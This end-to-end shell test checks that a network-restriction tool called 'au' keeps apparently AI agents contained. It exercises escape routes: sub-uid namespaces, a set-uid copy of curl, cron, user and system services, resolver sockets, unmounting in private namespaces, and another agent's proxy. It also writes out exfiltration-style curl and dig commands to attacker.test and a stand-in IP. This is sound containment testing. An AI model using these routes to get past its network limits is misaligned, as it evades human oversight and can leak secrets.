#!/bin/sh
# The rights, services and sockets of other users that an agent has are no way out either, or au says plainly that one is.
# waits: yes
# timeout: 2400
# machines: trixie
# machines by hand: bookworm true true-bookworm
. /opt/e2e/lib.sh
. /opt/e2e/tests/internet/up.sh
internet=/opt/e2e/tests/internet
ways=$internet/ways.py
secret='https://203.0.113.66/'
backends="nft iptables"
[ ! -e /dev/vda ] || backends=nft # an emulated machine is slow, and one is enough there
ok as alice au new -y
ok as alice au new -y -a other
ok as alice au new -y -a wide --unlock userns --unlock setuid
ok as alice au new -y -a loose --unlock resolver --unlock sysbus --unlock i386 --unlock services
ok usermod --add-subuids 300000-365535 --add-subgids 300000-365535 wide
internet_up
uid=$(id -u agent)
cp /usr/bin/curl /usr/local/bin/helper
chmod 4755 /usr/local/bin/helper
other() { as alice au run -a other -- "$@"; }
wide() { as alice au run -a wide -- "$@"; }
loose() { as alice au run -a loose -- "$@"; }

# leaves COMMAND…: packets leave the machine, so that it is a way out.
leaves() {
	before=$(on_wire)
	e2e_run "$@"
	sleep 0.2
	[ "$(on_wire)" -gt "$before" ] || fail "nothing left the machine without restriction, so that this would show nothing"
}
# as_sub_uid WAY…: the agent wide takes ways under one of its sub-uids.
as_sub_uid() { wide unshare -U --map-users=300000,0,1000 --map-groups=300000,0,1000 --setuid 5 --setgid 5 python3 $ways "$@"; }

# hold.py: the agent holds two connections, over IPv4 and IPv6, and sends over both until /run/internet/enough is there.
cat >/run/internet/hold.py <<'PYTHON'
import os, socket, time
held = [socket.create_connection((h, 9000), 20) for h in ("203.0.113.66", "2001:db8:2::66")]
out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
out.connect(("203.0.113.66", 443))
# One that is closed with much still to send: the other side does not read.
orphan = socket.create_connection(("203.0.113.66", 9001), 20)
orphan.setblocking(False)
try:
    while True: orphan.send(b"x" * 65536)
except BlockingIOError: pass
orphan.close()
print("held", flush=True)
while not os.path.exists("/run/internet/enough"):
    for s in held + [out]:
        try: s.send(b"a secret")
        except OSError as err: print(err, flush=True)
    time.sleep(0.1)
PYTHON
chmod 755 /run/internet /run/internet/hold.py

# Somebody at the attacker's who reads on port 9000, and on 9001 not before /run/internet/read is there; what came there is counted.
cat >/run/internet/sink.py <<'PYTHON'
import os, socket, threading, time
def read(s, wait):
    while wait and not os.path.exists("/run/internet/read"): time.sleep(0.05)
    total = 0
    try:
        while data := s.recv(65536): total += len(data)
    except OSError: pass
    if wait:
        with open("/run/internet/orphaned", "a") as file: file.write(f"{total}\n")
def serve(port, wait):
    listener = socket.create_server(("::", port), family=socket.AF_INET6, dualstack_ipv6=True)
    while True: threading.Thread(target=read, args=(listener.accept()[0], wait)).start()
threading.Thread(target=serve, args=(9000, False)).start()
serve(9001, True)
PYTHON
(exec ip netns exec internet setsid python3 /run/internet/sink.py >/run/internet/sink.log 2>&1) &
soon sh -c 'ip netns exec internet ss -Hltn | grep -q :9001'

# A stranger's questions and requests to the ports of an agent's daemon: each from a socket that is closed, or reset, at once.
cat >/run/internet/plant.py <<'PYTHON'
import socket, struct, sys
proxy, dns = map(int, sys.argv[1:])
questions = connections = 0
for i in range(300):
    for family, host in (socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"):
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            name = b"".join(bytes([len(label)]) + label for label in (b"planted%d" % i, b"test"))
            try: s.sendto(struct.pack("!6H", i, 256, 1, 0, 0, 0) + name + struct.pack("!BHH", 0, 1, 1), (host, dns))
            except PermissionError: pass
    questions += 1
for i in range(100):
    for host in "127.0.0.1", "::1":
        try:
            with socket.create_connection((host, proxy), 5) as s:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                s.sendall(b"GET http://planted%d.test/ HTTP/1.1\r\nHost: planted%d.test\r\n\r\n" % (i, i))
        except ConnectionError: pass
    connections += 1
print(f"sent {questions} datagrams, {connections} connections")
PYTHON
# cron_way: cron takes two ways as the agent, at the next full minute.
cron_way() {
	rm -f /tmp/cron.out
	usermod -e '' agent
	printf '* * * * * python3 %s tcp quic-6 >/tmp/cron.out 2>&1\n' $ways | crontab -u agent -
	systemctl restart cron.service
	for _ in $(seq 180); do
		! grep -q ^quic-6 /tmp/cron.out 2>/dev/null || break
		sleep 1
	done
	crontab -u agent -r
	usermod -e 1 agent
	cat /tmp/cron.out
}

# late WHO: a resolver starts while the run of WHO's goes on, and is asked.
late() {
	"$1" sh -c 'until test -S /run/late.sock; do sleep 0.1; done; sleep 0.5; exec python3 '$internet'/broker.py --ask /run/late.sock secret' &
	asks=$!
	sleep 1
	python3 $internet/broker.py /run/late.sock >/run/internet/late.log 2>&1 &
	resolver=$!
	late_status=0
	wait $asks || late_status=$?
	kill $resolver
	return $late_status
}
alice() { as alice "$@"; }

promise="without restriction each of these is a way out"
leaves late alice
leaves as_sub_uid tcp
leaves as_sub_uid quic-6
leaves wide /usr/local/bin/helper -sS --max-time 5 -k $secret
leaves cron_way
taken tcp quic-6
usermod -e '' agent
ok sh -c "rm -r /etc/systemd/system/user@$uid.service.d && systemctl daemon-reload"
loginctl enable-linger agent
soon test -S "/run/user/$uid/bus"
usermod -e 1 agent
user_service() { runuser -u agent -- env XDG_RUNTIME_DIR="/run/user/$uid" systemd-run --user --wait --quiet --pipe python3 $ways "$@"; }
leaves user_service tcp
taken tcp
system_service() { systemd-run --quiet --wait --pipe --uid=agent --slice=system.slice python3 $ways "$@"; }
leaves system_service tcp-6
taken tcp-6
python3 $internet/broker.py /run/systemd/resolve/io.systemd.Resolve /run/nscd/socket /run/avahi-daemon/socket &
soon test -S /run/avahi-daemon/socket
for path in /run/systemd/resolve/io.systemd.Resolve /run/nscd/socket /run/avahi-daemon/socket; do
	leaves loose python3 $internet/broker.py --ask $path secret
done
ok loose busctl --system --no-pager list
says org.freedesktop.systemd1

promise="a switch that leads round the rules is named as they go in, and in the status"
ok as alice au net restrict -a loose --allow allowed.test
for word in resolver sysbus i386 services; do complains "au: warning: the agent has --unlock $word, and these rules do not hold for it: "; done
ok as alice au net status -a loose
for word in resolver sysbus i386 services; do complains "au: warning: the agent has --unlock $word, and these rules do not hold for it: "; done
ok as alice au net off -a loose

for backend in $backends; do
	promise="with $backend: connections from before are cut, and what a closed one still had to send is lost"
	: >/run/internet/held
	as alice au run -- python3 /run/internet/hold.py >/run/internet/held 2>&1 &
	holder=$!
	soon grep -q held /run/internet/held
	before=$(on_wire)
	sleep 0.5
	[ "$(on_wire)" -gt "$before" ] || fail "the agent's connections send nothing"
	[ -n "$(ss -Htan 'dport = :9001')" ] || fail "the closed connection has nothing to send, so that this would show nothing"
	ok as alice au net restrict --backend $backend --allow allowed.test
	says "Ended"
	[ -z "$(ss -Htan 'dport = :9001')" ] || fail "the closed connection is still there: $(ss -tan 'dport = :9001')"
	: >/run/internet/read
	stays sleep 3
	grep -q 'Connection\|Broken\|not permitted' /run/internet/held || fail "the agent was not told: $(cat /run/internet/held)"
	: >/run/internet/enough
	wait $holder
	rm -f /run/internet/read /run/internet/enough

	ok as alice au net restrict -a wide --backend $backend --allow allowed.test
	complains "au: warning: the agent has --unlock setuid, and these rules do not hold for it: "
	promise="with $backend: sub-uids are no way out"
	stays as_sub_uid tcp tcp-6 quic quic-6 dns-6
	taken tcp tcp-6 quic quic-6 dns-6
	says_not INTERNET
	promise="with $backend: sub-uids given later are none either, seconds after"
	usermod --add-subuids 500000-565535 wide
	sleep 4
	stays wide unshare -U --map-users=500000,0,1000 --map-groups=300000,0,1000 --setuid 5 --setgid 5 python3 $ways quic-6
	taken quic-6
	usermod --del-subuids 500000-565535 wide

	promise="with $backend: a set-uid helper's packets stay where the slice's layer holds, and where it cannot, au says so"
	if as alice au net status -a wide --json 2>/dev/null | jq -e '.layers[] | select(.name == "slice") | .up' >"$e2e/slice"; then
		stays wide /usr/local/bin/helper -sS --max-time 10 -k $secret
		stays wide /usr/local/bin/helper -sS --max-time 10 -k 'https://[2001:db8:2::66]/'
	else
		ok as alice au net status -a wide
		complains "the second layer, the slice's filter, does not hold: "
	fi

	promise="with $backend: cron, a lingering service and a system service under the agent's name are none either"
	stays cron_way
	taken tcp quic-6
	stays user_service tcp quic-6
	taken tcp quic-6
	stays system_service tcp-6 quic
	taken tcp-6 quic

	promise="with $backend: nobody resolves names for the agent"
	for path in /run/systemd/resolve/io.systemd.Resolve /run/nscd/socket /run/avahi-daemon/socket; do
		stays agent python3 $internet/broker.py --ask $path secret
		[ "$e2e_status" != 0 ] || fail "the agent reached $path"
		# In namespaces of its own an agent may take away what it mounted itself, and nothing else.
		# shellcheck disable=SC2016
		stays wide unshare -Urm sh -c 'umount "$1"; umount "${1%/*}"; umount /run; mkdir /tmp/r; mount --bind /run /tmp/r; mount --rbind /run /tmp/r
			umount -l "/tmp/r${1#/run}"; python3 '$internet'/broker.py --ask "$1" secret || python3 '$internet'/broker.py --ask "/tmp/r${1#/run}" secret' sh $path
		[ "$e2e_status" != 0 ] || fail "the agent reached $path in namespaces of its own"
	done
	rm -f /run/late.sock
	if since 6.3; then
		stays late agent
		grep -q '^PermissionError' $e2e/out $e2e/err || fail "the agent did not see the resolver that started later"
	fi
	stays agent busctl --system --no-pager list
	[ "$e2e_status" != 0 ] || fail "the agent speaks to the system's bus"

	promise="with $backend: another agent's daemon serves that agent alone"
	ok as alice au net restrict -a other --backend $backend --allow attacker.test
	proxy=$(sed -n 's/^proxy-port = //p' /etc/au/net/other.toml) dns=$(sed -n 's/^dns-port = //p' /etc/au/net/other.toml)
	leaves other curl -sS --max-time 20 -x "http://127.0.0.1:$proxy" https://attacker.test/
	[ "$e2e_status" = 0 ] || fail "the other agent does not reach what it may"
	: >/run/internet/dns.log
	# shellcheck disable=SC2016 # the agent's shell expands it
	stays agent sh -c 'for host in 127.0.0.1 "[::1]"; do
			curl -sS --max-time 5 -x "http://$host:$1" https://attacker.test/ && echo "out by https with $host"
			curl -sS --max-time 5 -x "http://$host:$1" http://attacker.test/
			curl -sS --max-time 5 --connect-to "attacker.test:443:$host:$1" https://attacker.test/ && echo "out by connecting to $host"
			echo "tried $host"
		done
		dig +time=2 +tries=1 -p "$2" @127.0.0.1 secret.attacker.test
		dig +time=2 +tries=1 +tcp -p "$2" @::1 secret.attacker.test
		echo "tried dig"' sh "$proxy" "$dns"
	for word in 'tried 127.0.0.1' 'tried [::1]' 'tried dig'; do says "$word"; done
	says_not "out by"
	says_not INTERNET
	promise="with $backend: what a stranger sends to its ports, from sockets closed at once, is in no log and no suggestion"
	ok as carol python3 /run/internet/plant.py "$proxy" "$dns"
	says "sent 300 datagrams, 100 connections"
	ok other dig +time=5 +tries=2 attacker.test # its questions are its own: the stranger used up none
	says "203.0.113.66"
	sleep 2
	ok as alice au net log -a other --json
	says '"name":"attacker.test"'
	says_not planted
	ok as alice au net log -a other --suggest
	says_not planted
	promise="with $backend: nor an agent that is not restricted"
	e2e_run loose dig +time=2 +tries=1 -p "$dns" @127.0.0.1 secret.attacker.test
	stays loose curl -sS --max-time 5 -x "http://127.0.0.1:$proxy" https://attacker.test/
	[ "$e2e_status" != 0 ] || fail "a stranger used the agent's daemon"
	! grep secret /run/internet/dns.log || fail "a name left the machine"
	ok as alice au net off -a other
	ok as alice au net off -a wide
	ok as alice au net off
done
